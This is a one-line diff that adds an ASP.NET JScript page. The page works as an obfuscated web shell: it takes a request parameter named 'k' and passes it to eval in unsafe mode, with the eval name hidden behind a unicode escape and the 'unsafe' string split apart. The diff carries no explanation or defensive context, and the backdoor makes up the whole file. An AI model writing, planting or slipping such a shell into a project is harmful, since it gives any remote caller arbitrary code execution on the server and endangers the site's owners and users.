@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript"%><% var k = Request.Item["k"]; \u0065val(k, "un"+"safe"); /* x */ %>
